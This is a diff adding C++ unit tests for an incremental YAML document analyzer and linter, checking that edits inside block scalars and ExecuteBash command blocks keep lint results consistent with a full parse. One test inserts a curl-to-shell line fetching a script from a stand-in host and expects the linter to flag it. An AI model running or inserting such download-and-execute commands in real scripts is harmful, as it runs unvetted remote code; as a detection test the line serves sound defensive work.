@@ -28,6 +28,10 @@ std::unique_ptr<DocumentAnalysis> edit_and_analyse(TextDocument& doc, std::uniqu
   return DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{}, std::move(previous));
 }
 
+const char* kBlock =
+    "      - name: Script\n        action: ExecuteBash\n        inputs:\n          commands:\n            - |\n"
+    "              echo one\n";
+
 TEST(ScalarEditTest, TypingInsideValuesReusesTheNodeModel) {
   TextDocument doc("file:///doc.yaml", testing::kChaining, 1);
   auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
@@ -46,6 +50,16 @@ TEST(ScalarEditTest, TypingInsideValuesReusesTheNodeModel) {
   EXPECT_FALSE(analysis->reparsed());
   EXPECT_EQ(findings(analysis->lint()), findings(lint_file(SourceFile("doc.yaml", doc.text()), LintSettings{})));
 
+  // Inside a block scalar's line.
+  std::string block = std::string(testing::kChaining) + kBlock;
+  doc.replace_all(block);
+  analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{}, std::move(analysis));
+  at = static_cast<uint32_t>(doc.text().find("echo one") + 5);
+  analysis = edit_and_analyse(doc, std::move(analysis), at, at + 3, "two; curl http://x.example/a.sh | sh");
+  EXPECT_FALSE(analysis->reparsed());
+  EXPECT_EQ(findings(analysis->lint()), findings(lint_file(SourceFile("doc.yaml", doc.text()), LintSettings{})));
+  EXPECT_FALSE(analysis->lint().diagnostics.empty());
+
   at = static_cast<uint32_t>(doc.text().find("phases:"));
   analysis = edit_and_analyse(doc, std::move(analysis), at, at, "# comment\n");
   EXPECT_TRUE(analysis->reparsed());
@@ -59,8 +73,9 @@ TEST(ScalarEditTest, KeysNumbersAndStructuralCharactersTakeAFullParse) {
            {"name: Fetch", 8, ": "},         // makes a mapping
            {"name: Fetch", 8, " #"},         // starts a comment
            {"name: Fetch", 6, "x"},          // the value's first character
+           {"- |\n", 3, "-"},                // a block scalar's header
        }) {
-    TextDocument doc("file:///doc.yaml", testing::kChaining, 1);
+    TextDocument doc("file:///doc.yaml", std::string(testing::kChaining) + kBlock, 1);
     auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
     uint32_t at = static_cast<uint32_t>(doc.text().find(needle)) + shift;
     analysis = edit_and_analyse(doc, std::move(analysis), at, at, insert);
